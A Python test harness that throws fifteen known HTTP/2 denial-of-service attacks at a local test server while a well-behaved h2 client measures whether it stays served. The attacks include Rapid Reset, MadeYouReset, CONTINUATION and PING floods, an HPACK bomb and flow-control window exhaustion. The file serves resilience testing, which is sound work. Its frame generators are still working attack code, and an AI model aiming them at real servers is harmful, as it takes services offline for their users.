"""Abuse of HTTP/2 with frames of Python's hyperframe, while a well-behaved client of Python's h2 is served as if alone.

What has to hold under each attack: the healthy client gets every answer, memory stays bounded, the attacker's connection is
closed or contained, and what reaches the origin is bounded by what was asked for in earnest.
"""

from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass
from typing import Callable

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from kit.stand import HOST, Route, Stand
from matrix.recorder import Recorder

from .common import Comparison, arguments

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: Milliseconds.
LIMITS = {"headerTimeout": 5_000, "bodyTimeout": 5_000, "writeTimeout": 5_000, "keepAliveTimeout": 10_000}
#: No attack may make ingress grow by more, in KiB.
MEMORY = 96 * 1024


class Healthy(threading.Thread):
    """One connection of the h2 library after another, ten requests on each at once."""

    def __init__(self, port: int) -> None:
        super().__init__(daemon=True)
        self.port, self.ended = port, threading.Event()
        self.asked = self.failed = 0
        self.longest = 0.0
        self.why = ""

    def run(self) -> None:
        while not self.ended.wait(0.02):
            begun = time.monotonic()
            try:
                self.failed += 10 - self.ten()
            except (OSError, h2.exceptions.ProtocolError) as why:
                self.failed += 10
                self.why = repr(why)
            self.asked += 10
            self.longest = max(self.longest, time.monotonic() - begun)

    def ten(self) -> int:
        """Asks ten times; how many were answered 200."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=15) as stream:
            connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
            connection.initiate_connection()
            head = [(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", "/healthy")]
            for _ in range(10):
                connection.send_headers(connection.get_next_available_stream_id(), head, end_stream=True)
            stream.sendall(connection.data_to_send())
            good = ended = 0
            while ended < 10:
                data = stream.recv(65536)
                if not data:
                    break
                for event in connection.receive_data(data):
                    good += isinstance(event, h2.events.ResponseReceived) and dict(event.headers)[":status"] == "200"
                    ended += isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset))
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return good
                stream.sendall(connection.data_to_send())
            connection.close_connection()
            stream.sendall(connection.data_to_send())
            return good


class Attacker:
    """A connection on which anything may be said. It reads in the background and remembers how it ended."""

    def __init__(self, port: int, *settings: tuple[int, int], reads: bool = True) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=15)
        self.encoder = Encoder()
        self.goaway: int | None = None
        self.closed = threading.Event()
        self.answers = 0
        self.socket.sendall(PREFACE + SettingsFrame(0, settings=dict(settings)).serialize())
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        buffer = b""
        try:
            while data := self.socket.recv(65536):
                buffer += data
                while len(buffer) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                    if len(buffer) < 9 + length:
                        break
                    if isinstance(frame, GoAwayFrame):
                        frame.parse_body(memoryview(buffer[9 : 9 + length]))
                        self.goaway = frame.error_code
                    self.answers += isinstance(frame, HeadersFrame)
                    buffer = buffer[9 + length :]
        except (OSError, ValueError):
            pass
        self.closed.set()

    def head(self, stream: int, path: str, *more: tuple[str, str], end: bool = True, whole: bool = True, method: str = "GET") -> bytes:
        block = self.encoder.encode([(":method", method), (":scheme", "http"), (":authority", HOST), (":path", path), *more])
        flags = [*(["END_STREAM"] if end else []), *(["END_HEADERS"] if whole else [])]
        return HeadersFrame(stream, data=block, flags=flags).serialize()

    def send(self, data: bytes) -> bool:
        """Whether the connection still takes it."""
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return not self.closed.is_set()

    def repeat(self, times: int, make: Callable[[int], bytes]) -> int:
        """Sends what is made for the stream 1, 3, …, as long as it is taken; how often it was."""
        return next((at for at in range(times) if not self.send(make(2 * at + 1))), times)

    def end(self) -> None:
        self.socket.close()


@dataclass(frozen=True)
class Attack:
    name: str
    run: Callable[[int], str]
    #: Requests that the origin may get of it at most.
    origin: int


def one(port: int, act: Callable[[Attacker], int], *settings: tuple[int, int]) -> str:
    attacker = Attacker(port, *settings)
    sent = act(attacker)
    attacker.closed.wait(8)
    told = f"GOAWAY {attacker.goaway}" if attacker.goaway is not None else "closed" if attacker.closed.is_set() else "goes on"
    attacker.end()
    return f"after {sent}: {told}"


def rapid_reset(port: int) -> str:
    return one(port, lambda a: a.repeat(20_000, lambda n: a.head(n, "/attack") + RstStreamFrame(n, error_code=8).serialize()))


def made_you_reset(port: int) -> str:
    return one(port, lambda a: a.repeat(20_000, lambda n: a.head(n, "/attack", method="POST", end=False) + WindowUpdateFrame(n, window_increment=1).serialize()[:-4] + b"\0\0\0\0"))


def data_after_end(port: int) -> str:
    return one(port, lambda a: a.repeat(20_000, lambda n: a.head(n, "/attack") + DataFrame(n, data=b"x").serialize()))


def continuation(port: int) -> str:
    def act(a: Attacker) -> int:
        a.send(a.head(1, "/attack", whole=False))
        return a.repeat(50_000, lambda _: ContinuationFrame(1, data=a.encoder.encode([("x-a", "a" * 1000)])).serialize())

    return one(port, act)


def empty_data(port: int) -> str:
    def act(a: Attacker) -> int:
        a.send(a.head(1, "/attack", method="POST", end=False))
        return a.repeat(200_000, lambda _: DataFrame(1).serialize())

    return one(port, act)


def ping(port: int) -> str:
    return one(port, lambda a: a.repeat(100_000, lambda _: PingFrame(0, opaque_data=b"12345678").serialize()))


def ping_unread(port: int) -> str:
    attacker = Attacker(port, reads=False)
    attacker.socket.settimeout(3)
    sent = attacker.repeat(1_000_000, lambda _: PingFrame(0, opaque_data=b"12345678").serialize() * 20)
    attacker.end()
    return f"after {sent * 20}: takes no more"


def settings(port: int) -> str:
    return one(port, lambda a: a.repeat(100_000, lambda _: SettingsFrame(0, settings={4: 65_535}).serialize()))


def priority(port: int) -> str:
    return one(port, lambda a: a.repeat(100_000, lambda n: PriorityFrame(n, depends_on=0, stream_weight=1).serialize()))


def hpack_bomb(port: int) -> str:
    def bomb(a: Attacker, n: int) -> bytes:
        first = a.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", "/attack"), ("x-bomb", "a" * 3900)])
        return HeadersFrame(n, data=first + b"\xbe" * 10_000, flags=["END_HEADERS", "END_STREAM"]).serialize()

    return one(port, lambda a: a.repeat(500, lambda n: bomb(a, n)))


def streams(port: int) -> str:
    """More streams than are allowed, on many connections, none of which ends."""
    attackers = [Attacker(port) for _ in range(20)]
    for attacker in attackers:
        attacker.repeat(1000, lambda n: attacker.head(n, "/attack", method="POST", end=False))
    ended = [attacker.closed.wait(10) for attacker in attackers]
    for attacker in attackers:
        attacker.end()
    return f"{sum(ended)} of 20 closed"


def zero_window(port: int) -> str:
    """A window of no byte: each answer of 1 MiB waits."""
    attackers = [Attacker(port, (4, 0)) for _ in range(20)]
    for attacker in attackers:
        attacker.repeat(90, lambda n: attacker.head(n, "/large"))
    ended = [attacker.closed.wait(15) for attacker in attackers]
    for attacker in attackers:
        attacker.end()
    return f"{sum(ended)} of 20 closed"


def one_byte_windows(port: int) -> str:
    """CVE-2019-9511: the answer is asked for byte by byte."""

    def act(a: Attacker) -> int:
        a.send(a.head(1, "/large"))
        return a.repeat(50_000, lambda _: WindowUpdateFrame(1, window_increment=1).serialize())

    return one(port, act, (4, 0))


def unread(port: int) -> str:
    """Windows of 1 GiB, and nothing is read from the socket."""
    attackers = [Attacker(port, (4, 1 << 30), reads=False) for _ in range(20)]
    for attacker in attackers:
        attacker.send(WindowUpdateFrame(0, window_increment=1 << 30).serialize())
        attacker.repeat(90, lambda n: attacker.head(n, "/large"))
    threading.Event().wait(3)  # As long as an attacker waits; nothing depends on it.
    for attacker in attackers:
        attacker.end()
    return "90 answers of 1 MiB on each of 20 connections"


def silent(port: int) -> str:
    """Connections that say the preface, or half of it, and no more."""
    attackers = [Attacker(port) for _ in range(100)]
    halves = [socket.create_connection(("127.0.0.1", port), timeout=15) for _ in range(100)]
    for half in halves:
        half.sendall(PREFACE[:12])
    closed = sum(attacker.closed.wait(15) for attacker in attackers)
    refused = 0
    for half in halves:
        try:
            while half.recv(100):
                pass
            refused += 1
        except TimeoutError:
            pass
        except OSError:
            refused += 1
        half.close()
    for attacker in attackers:
        attacker.end()
    return f"{closed} of 100 silent and {refused} of 100 half prefaces closed"


ATTACKS = [
    Attack("rapid reset (CVE-2023-44487)", rapid_reset, 20_000),
    Attack("MadeYouReset (CVE-2025-8671), window 0", made_you_reset, 0),
    Attack("MadeYouReset, DATA after the end", data_after_end, 20_000),
    Attack("CONTINUATION (VU#421644)", continuation, 0),
    Attack("empty DATA (CVE-2019-9518)", empty_data, 0),
    Attack("PING (CVE-2019-9512)", ping, 0),
    Attack("PING, answers unread", ping_unread, 0),
    Attack("SETTINGS (CVE-2019-9515)", settings, 0),
    Attack("PRIORITY (CVE-2019-9513)", priority, 0),
    Attack("HPACK bomb", hpack_bomb, 0),
    Attack("streams without end", streams, 0),
    Attack("window of 0", zero_window, 1800),
    Attack("windows of one byte (CVE-2019-9511)", one_byte_windows, 1),
    Attack("answers unread", unread, 1800),
    Attack("silent", silent, 0),
]


def main() -> None:
    given = arguments(__doc__)
    report = Comparison("h2abuse", given.work)
    recorder = Recorder()
    try:
        for at, attack in enumerate(ATTACKS):
            if given.only in attack.name:
                with Stand(given.stand, given.work, [Route(recorder.port)], limits=LIMITS, name=f"stand-{at}") as stand:
                    _under(report, attack, stand, recorder)
    finally:
        recorder.stop()
    report.end()


def _under(report: Comparison, attack: Attack, stand: Stand, recorder: Recorder) -> None:
    # Served once before, so that memory that is kept for good is there.
    warm = Healthy(stand.port)
    warm.ten()
    before = stand.memory()
    peak = [before]
    done = threading.Event()

    def watch() -> None:
        while not done.wait(0.1):
            peak[0] = max(peak[0], stand.memory())

    with recorder.arrived:
        recorder.seen.clear()
    watcher, healthy = threading.Thread(target=watch, daemon=True), Healthy(stand.port)
    watcher.start()
    healthy.start()
    told = attack.run(stand.port)
    healthy.ended.set()
    healthy.join()
    # After it, too: some attacks end before anybody else could ask.
    healthy.asked, healthy.failed = healthy.asked + 10, healthy.failed + 10 - healthy.ten()
    done.set()
    watcher.join()
    with recorder.arrived:
        of_attack = sum(seen.target != "/healthy" for seen in recorder.seen)
        recorder.seen.clear()
    name = attack.name
    report.must(f"{name}: {told}; failed of {healthy.asked} healthy (longest {healthy.longest * 1000:.0f} ms) {healthy.why}", 0, healthy.failed)
    report.must(f"{name}: memory grew by {(peak[0] - before) // 1024} MiB, at most {MEMORY // 1024}", True, peak[0] - before <= MEMORY)
    report.must(f"{name}: the origin got {of_attack} requests of it, at most {attack.origin}", True, of_attack <= attack.origin)


if __name__ == "__main__":
    main()
